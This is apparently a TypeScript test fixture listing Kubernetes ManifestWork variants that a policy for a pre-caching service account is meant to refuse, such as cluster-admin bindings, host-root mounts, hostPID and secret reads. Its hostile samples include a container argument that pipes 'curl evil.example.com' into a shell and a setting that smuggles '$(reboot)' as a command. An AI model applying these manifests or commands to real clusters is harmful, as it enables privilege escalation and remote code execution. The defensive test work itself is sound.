import type { KubernetesObject } from "#shared/domain/kubernetes/object.ts";
import { manifestWork } from "#shared/domain/precache-start/work/manifest-work.ts";
import { anOwner } from "../hub/objects.ts";
import { aCheckRun, aRun, release } from "./precache-objects.ts";

/** The cluster of these works. */
export const cluster = "team-a";
const content = { platformImage: release, additionalImages: [release], spaceRequired: "45" };
const hints = { bandwidthMbits: 20, parallelPulls: 4 };
const input = { content, image: "quay.io/hubrelay/precache:v1", timeoutMinutes: 240 };
/** A work as the function writes it. */
export const ownWork = manifestWork(cluster, { ...input, ...hints, run: aRun });

type Fields = Record<string, unknown>;
/** A copy of the function's own work with a change in the manifest of this kind. */
function changed(kind: string, change: (manifest: Fields) => void): KubernetesObject {
  const copy = structuredClone(ownWork);
  const manifests: readonly Fields[] = Object(copy.spec).workload.manifests;
  const found = manifests.find((manifest) => manifest.kind === kind);
  if (!found) throw new Error(`the work has no ${kind}`);
  change(found);
  return copy;
}
const changedPod = (change: (pod: Fields & { containers: Fields[]; volumes: Fields[] }) => void) =>
  changed("Job", ({ spec }) => change(Object(spec).template.spec));
type Container = Fields & { env: Fields[]; resources: Record<string, Fields>; volumeMounts: Fields[] };
const changedContainer = (change: (container: Container) => void) =>
  changedPod(({ containers: [container] }) => change(Object(container)));
/** A change of the mount at this path below `/host`. */
const changedMount = (path: string, fields: Fields) =>
  changedContainer(({ volumeMounts }) => {
    const mount = volumeMounts.find(({ mountPath }) => mountPath === `/host${path}`);
    if (!mount) throw new Error(`there is no mount of ${path}`);
    Object.assign(mount, fields);
  });
/** A change of the volume with this name. */
const changedVolume = (name: string, fields: Fields) =>
  changedPod(({ volumes }) => {
    const volume = volumes.find((one) => one.name === name);
    if (!volume) throw new Error(`there is no volume ${name}`);
    Object.assign(volume, fields);
  });
const changedSpec = (change: (spec: Fields) => void): KubernetesObject => {
  const copy = structuredClone(ownWork);
  change(Object(copy.spec));
  return copy;
};
const more = (manifest: object) => changedSpec((spec) => Object(spec.workload).manifests.push(manifest));

/** The content of works before the node's own kubelet configuration was read. */
const nodesProxy = {
  apiVersion: "rbac.authorization.k8s.io/v1",
  kind: "ClusterRole",
  metadata: { name: "hubrelay-pre-cache" },
  rules: [{ apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get"] }],
};
const nodesProxyBinding = {
  ...nodesProxy,
  kind: "ClusterRoleBinding",
  rules: undefined,
  roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "hubrelay-pre-cache" },
  subjects: [{ kind: "ServiceAccount", name: "pre-cache-agent", namespace: "openshift-talo-pre-cache" }],
};
/** A work as an earlier version created it: with permissions on nodes and a Job without a memory limit. */
export function earlierWork(): KubernetesObject {
  const work = changedPod(({ containers: [container] }) => {
    const { env } = Object(container);
    env.push({ name: "NODE_NAME", valueFrom: { fieldRef: { fieldPath: "spec.nodeName" } } });
    delete Object(container).resources;
  });
  const { manifests } = Object(work.spec).workload;
  manifests.push(nodesProxy, nodesProxyBinding);
  return work;
}

/** The work of a check as the function writes it. */
export const ownCheck = manifestWork(cluster, { ...input, run: aCheckRun, timeoutMinutes: 15 });

type Refused = Readonly<{ name: string; work: KubernetesObject; says: string }>;

/** A copy of a work whose Job runs this program. */
function withProgram(work: KubernetesObject, program: string): KubernetesObject {
  const copy = structuredClone(work);
  const job = Object(copy.spec).workload.manifests.find(({ kind }: KubernetesObject) => kind === "Job");
  job.spec.template.spec.containers[0].args = [program];
  return copy;
}

const owned = { ...ownWork, metadata: { ...ownWork.metadata, ownerReferences: [anOwner] } };

/** What the account may not create. */
export const hostileWorks: readonly Refused[] = [
  {
    name: "When a work has an owner, it should be refused",
    work: owned,
    says: "may not write such a field",
  },
  {
    name: "When a work has another program's name, it should be refused",
    work: { ...ownWork, metadata: { ...ownWork.metadata, name: "addon-work-manager" } },
    says: "its own ManifestWorks only",
  },
  {
    name: "When a work chooses the account that applies it, it should be refused",
    work: changedSpec((spec) => {
      const serviceAccount = { namespace: "kube-system", name: "root" };
      spec.executor = { subject: { type: "ServiceAccount", serviceAccount } };
    }),
    says: "may not write such a field",
  },
  {
    name: "When a work is removed without its objects, it should be refused",
    work: changedSpec((spec) => (spec.deleteOption = { propagationPolicy: "Orphan" })),
    says: "The spec of a work",
  },
  {
    name: "When a work reads an object of the cluster back, it should be refused",
    work: changedSpec((spec) => {
      const jsonPaths = [{ name: "a", path: ".data" }];
      spec.manifestConfigs = [
        {
          resourceIdentifier: { group: "", resource: "secrets", namespace: "kube-system", name: "x" },
          feedbackRules: [{ type: "JSONPaths", jsonPaths }],
          updateStrategy: { type: "ReadOnly" },
        },
      ];
    }),
    says: "The spec of a work",
  },
  {
    name: "When a work reads more of its Job back, it should be refused",
    work: changedSpec(({ manifestConfigs }) => {
      const [job] = Object(manifestConfigs);
      job.feedbackRules[0].jsonPaths.push({ name: "a", path: ".metadata" });
    }),
    says: "The spec of a work",
  },
  {
    name: "When a work has a label of another program, it should be refused",
    work: { ...ownWork, metadata: { ...ownWork.metadata, labels: { ...ownWork.metadata.labels, x: "y" } } },
    says: "may not write such a field",
  },
  {
    name: "When the content has another key, it should be refused",
    work: changed("ConfigMap", ({ data }) => (Object(data)["x/../y"] = "z")),
    says: "the texts of its content only",
  },
  {
    name: "When the content has a value that is no text, it should be refused",
    work: changed("ConfigMap", ({ data }) => (Object(data).spaceRequired = ["45"])),
    says: "the texts of its content only",
  },
  {
    name: "When a Job is suspended as null, it should be refused",
    work: changed("Job", ({ spec }) => (Object(spec).suspend = null)),
    says: "A Job is suspended, or not",
  },
  {
    name: "When a work contains a Secret, it should be refused",
    work: more({
      apiVersion: "v1",
      kind: "Secret",
      metadata: { name: "s", namespace: "openshift-talo-pre-cache" },
    }),
    says: "stays in its own namespace",
  },
  {
    name: "When a work contains a DaemonSet under the kind Job, it should be refused",
    work: changed("Job", (job) => (job.apiVersion = "apps/v1")),
    says: "stays in its own namespace",
  },
  {
    name: "When a work has an object in another namespace, it should be refused",
    work: changed("Job", ({ metadata }) => (Object(metadata).namespace = "kube-system")),
    says: "stays in its own namespace",
  },
  {
    name: "When a work contains a ClusterRole, even for the kubelet only, it should be refused",
    work: more(nodesProxy),
    says: "stays in its own namespace",
  },
  {
    name: "When a work binds a ClusterRole in every namespace, it should be refused",
    work: more(nodesProxyBinding),
    says: "stays in its own namespace",
  },
  {
    name: "When a ClusterRole reads more, it should be refused",
    work: changed("ClusterRole", ({ rules }) => Object(rules)[0].resources.push("machineconfigs")),
    says: "pools of nodes and the releases on nodes only",
  },
  {
    name: "When the privileged constraint is bound in every namespace, it should be refused",
    work: changed(
      "ClusterRoleBinding",
      ({ roleRef }) => (Object(roleRef).name = "system:openshift:scc:privileged"),
    ),
    says: "its own roles and the privileged constraint",
  },
  {
    name: "When a Role reads every ConfigMap, it should be refused",
    work: changed(
      "Role",
      (role) => (role.rules = [{ apiGroups: [""], resources: ["configmaps"], verbs: ["get"] }]),
    ),
    says: "write its progress only",
  },
  {
    name: "When the account becomes an administrator, it should be refused",
    work: changed("RoleBinding", ({ roleRef }) => (Object(roleRef).name = "cluster-admin")),
    says: "its own roles and the privileged constraint",
  },
  {
    name: "When another subject is bound, it should be refused",
    work: changed(
      "RoleBinding",
      (binding) => (binding.subjects = [{ kind: "Group", name: "system:serviceaccounts" }]),
    ),
    says: "Only the workload's account may be bound",
  },
  {
    name: "When the pod joins the node's processes, it should be refused",
    work: changedPod((pod) => (pod.hostPID = true)),
    says: "shares only its mounts with the node",
  },
  {
    name: "When the pod has a second container, it should be refused",
    work: changedPod(({ containers }) => containers.push({ name: "x", image: "quay.io/evil/x" })),
    says: "one container",
  },
  {
    name: "When the container runs something else, it should be refused",
    work: changedPod(
      ({ containers: [container] }) => (Object(container).args = ["curl evil.example.com | sh"]),
    ),
    says: "the workload's own script",
  },
  {
    name: "When a check runs the program that pulls, it should be refused",
    work: withProgram(ownCheck, "/opt/precache/precache.sh"),
    says: "the workload's own script",
  },
  {
    name: "When a work of pre-caching only checks, it should be refused",
    work: withProgram(ownWork, "/opt/precache/check.sh"),
    says: "the workload's own script",
  },
  {
    name: "When the container's shell gets a startup file, it should be refused",
    work: changedPod(({ containers: [container] }) =>
      Object(container).env.push({ name: "BASH_ENV", value: "/etc/config/platform.image" }),
    ),
    says: "with its own settings",
  },
  {
    name: "When the container may use all memory of the node, it should be refused",
    work: changedPod(({ containers: [container] }) => delete Object(container).resources),
    says: "a memory limit",
  },
  {
    name: "When the Job has no deadline, it should be refused",
    work: changed("Job", ({ spec }) => delete Object(spec).activeDeadlineSeconds),
    says: "a deadline",
  },
  {
    name: "When the pod mounts the whole node, it should be refused",
    work: changedPod(({ volumes }) => volumes.push({ name: "host-root", hostPath: { path: "/" } })),
    says: "write its image storage only",
  },
  {
    name: "When the pod may write the node's programs, it should be refused",
    work: changedPod(({ containers: [container] }) => {
      for (const mount of Object(container).volumeMounts) delete mount.readOnly;
    }),
    says: "write its image storage only",
  },
  {
    name: "When a ConfigMap replaces the folder of the workload's script, it should be refused",
    work: changedContainer(({ volumeMounts }) =>
      volumeMounts.push({ name: "content", mountPath: "/opt/precache" }),
    ),
    says: "write its image storage only",
  },
  {
    name: "When the content is mounted over the workload's script, it should be refused",
    work: changedContainer(({ volumeMounts }) =>
      Object.assign(volumeMounts[0] ?? {}, { mountPath: "/opt/precache", subPath: "additionalImages" }),
    ),
    says: "write its image storage only",
  },
  {
    name: "When the content's file is executable, it should be refused",
    work: changedVolume("content", {
      configMap: { name: "pre-cache-spec-7f3a9c0d1e-b1ed6c", defaultMode: 0o755 },
    }),
    says: "write its image storage only",
  },
  {
    name: "When the content is another run's ConfigMap, it should be refused",
    work: changedVolume("content", {
      configMap: { name: "pre-cache-spec-0000000000-000000", defaultMode: 0o644 },
    }),
    says: "write its image storage only",
  },
  {
    name: "When the pod may write the node's libraries in place of its image storage, it should be refused",
    work: changedMount("/var/lib/containers", { name: "host-usr-lib" }),
    says: "write its image storage only",
  },
  {
    name: "When the pod may write the kubelet's credentials for registries, it should be refused",
    work: changedMount("/run/containers", { name: "host-var-lib-kubelet-config-json" }),
    says: "write its image storage only",
  },
  {
    name: "When a mount of the pod spreads to the node, it should be refused",
    work: changedMount("/run/containers", { mountPropagation: "Bidirectional" }),
    says: "write its image storage only",
  },
  {
    name: "When a mount leaves its folder with an expanded sub-path, it should be refused",
    work: changedMount("/run/containers", { subPathExpr: "$(POD_NAMESPACE)" }),
    says: "write its image storage only",
  },
  {
    name: "When a path of the node has another type, it should be refused",
    work: changedVolume("host-usr-lib64", { hostPath: { path: "/usr/lib64", type: "DirectoryOrCreate" } }),
    says: "write its image storage only",
  },
  {
    name: "When a volume holds a token of the account, it should be refused",
    work: changedPod(({ volumes }) =>
      volumes.push({
        name: "token",
        emptyDir: {},
        projected: { sources: [{ serviceAccountToken: { path: "token" } }] },
      }),
    ),
    says: "write its image storage only",
  },
  {
    name: "When the Job runs 1000 pods at a time, it should be refused",
    work: changed("Job", ({ spec }) => Object.assign(Object(spec), { parallelism: 1000, completions: 1000 })),
    says: "runs one pod once",
  },
  {
    name: "When the Job runs a failed pod again, it should be refused",
    work: changed("Job", ({ spec }) => (Object(spec).backoffLimit = 100)),
    says: "runs one pod once",
  },
  {
    name: "When a policy of the Job ignores failures, it should be refused",
    work: changed("Job", ({ spec }) => {
      const onExitCodes = { operator: "NotIn", values: [0] };
      Object(spec).podFailurePolicy = { rules: [{ action: "Ignore", onExitCodes }] };
    }),
    says: "runs one pod once",
  },
  {
    name: "When an annotation gives the pod another network, it should be refused",
    work: changed("Job", ({ spec }) => {
      Object(spec).template.metadata.annotations["k8s.v1.cni.cncf.io/networks"] = "kube-system/storage";
    }),
    says: "the fields, labels and annotations that hubrelay writes",
  },
  {
    name: "When a work has two Jobs, it should be refused",
    work: changedSpec((spec) => {
      const { manifests } = Object(spec.workload);
      const [job] = manifests.filter(({ kind }: KubernetesObject) => kind === "Job");
      manifests.push({ ...job, metadata: { ...job.metadata, name: `${job.metadata.name}-2` } });
    }),
    says: "exactly one Job",
  },
  {
    name: "When a work has no Job, only permissions, it should be refused",
    work: changedSpec((spec) => {
      const { workload } = Object(spec);
      workload.manifests = workload.manifests.filter(({ kind }: KubernetesObject) => kind !== "Job");
    }),
    says: "exactly one Job",
  },
  {
    name: "When a work writes the ConfigMap of another run, it should be refused",
    work: more({
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { name: "pre-cache-spec-0000000000-000000", namespace: "openshift-talo-pre-cache" },
    }),
    says: "with its own names",
  },
  {
    name: "When an object of the managed cluster gets an owner, it should be refused",
    work: changed("Job", ({ metadata }) => (Object(metadata).ownerReferences = [anOwner])),
    says: "the fields, labels and annotations that hubrelay writes",
  },
  {
    name: "When the namespace chooses the nodes of its pods, it should be refused",
    work: changed("Namespace", ({ metadata }) => {
      Object(metadata).annotations["scheduler.alpha.kubernetes.io/node-selector"] = "zone=any";
    }),
    says: "the fields, labels and annotations that hubrelay writes",
  },
  {
    name: "When the pod has an init container, it should be refused",
    work: changedPod((pod) => (pod.initContainers = [{ name: "x", image: "quay.io/evil/x" }])),
    says: "one container",
  },
  {
    name: "When the pod is restarted without end, it should be refused",
    work: changedPod((pod) => (pod.restartPolicy = "OnFailure")),
    says: "shares only its mounts with the node",
  },
  {
    name: "When the pod displaces the node's own pods, it should be refused",
    work: changedPod((pod) => (pod.priorityClassName = "system-node-critical")),
    says: "shares only its mounts with the node",
  },
  {
    name: "When the container's settings come from a ConfigMap, it should be refused",
    work: changedContainer((container) => (container.envFrom = [{ configMapRef: { name: "any" } }])),
    says: "with its own settings",
  },
  {
    name: "When a setting comes from a Secret, it should be refused",
    work: changedContainer(({ env }) =>
      Object.assign(env[0] ?? {}, {
        value: undefined,
        valueFrom: { secretKeyRef: { name: "any", key: "token" } },
      }),
    ),
    says: "with its own settings",
  },
  {
    name: "When a number of the settings is a command, it should be refused",
    work: changedContainer(({ env }) => {
      for (const variable of env) if (variable.name === "PULL_PARALLEL") variable.value = "a[$(reboot)]";
    }),
    says: "with its own settings",
  },
  {
    name: "When the container's security context has more, it should be refused",
    work: changedContainer((container) => {
      container.securityContext = { privileged: true, runAsUser: 0, procMount: "Unmasked" };
    }),
    says: "with its own settings",
  },
  {
    name: "When the container reserves all memory of the node, it should be refused",
    work: changedContainer(({ resources }) => (Object(resources.requests).memory = "4096Mi")),
    says: "requests little memory",
  },
  {
    name: "When the container takes a device of the node, it should be refused",
    work: changedContainer(({ resources }) => (Object(resources.limits)["nvidia.com/gpu"] = "1")),
    says: "a memory limit",
  },
];

/** What the account may not make of its own work. */
export const hostileUpdates: readonly Refused[] = [
  {
    name: "When an existing work gets an owner, it should be refused",
    work: owned,
    says: "may not write such a field",
  },
  {
    name: "When an existing Job gets 1000 pods, it should be refused",
    work: changed("Job", ({ spec }) => (Object(spec).parallelism = 1000)),
    says: "only suspended and resumed",
  },
  {
    name: "When an existing work gets a second Job with the same pod, it should be refused",
    work: changedSpec((spec) => {
      const { manifests } = Object(spec.workload);
      const [job] = manifests.filter(({ kind }: KubernetesObject) => kind === "Job");
      manifests.push({ ...job, spec: { ...job.spec, activeDeadlineSeconds: 60 } });
    }),
    says: "only suspended and resumed",
  },
  {
    name: "When an existing Job's deadline is removed, it should be refused",
    work: changed("Job", ({ spec }) => delete Object(spec).activeDeadlineSeconds),
    says: "only suspended and resumed",
  },
  {
    name: "When an existing Job's pod shares the node's processes, it should be refused",
    work: changedPod((pod) => (pod.hostPID = true)),
    says: "only suspended and resumed",
  },
  {
    name: "When an existing Job becomes one of another API, it should be refused",
    work: changed("Job", (job) => (job.apiVersion = "batch.example.com/v1")),
    says: "only suspended and resumed",
  },
  {
    name: "When an existing Job's suspension becomes null, it should be refused",
    work: changed("Job", ({ spec }) => (Object(spec).suspend = null)),
    says: "A Job is suspended, or not",
  },
  {
    name: "When an existing work keeps its objects at its end, it should be refused",
    work: changedSpec((spec) => (spec.deleteOption = { propagationPolicy: "Orphan" })),
    says: "may not write such a field",
  },
  {
    name: "When an existing work gets a finalizer, it should be refused",
    work: { ...ownWork, metadata: { ...ownWork.metadata, finalizers: ["example.com/held"] } },
    says: "may not write such a field",
  },
];
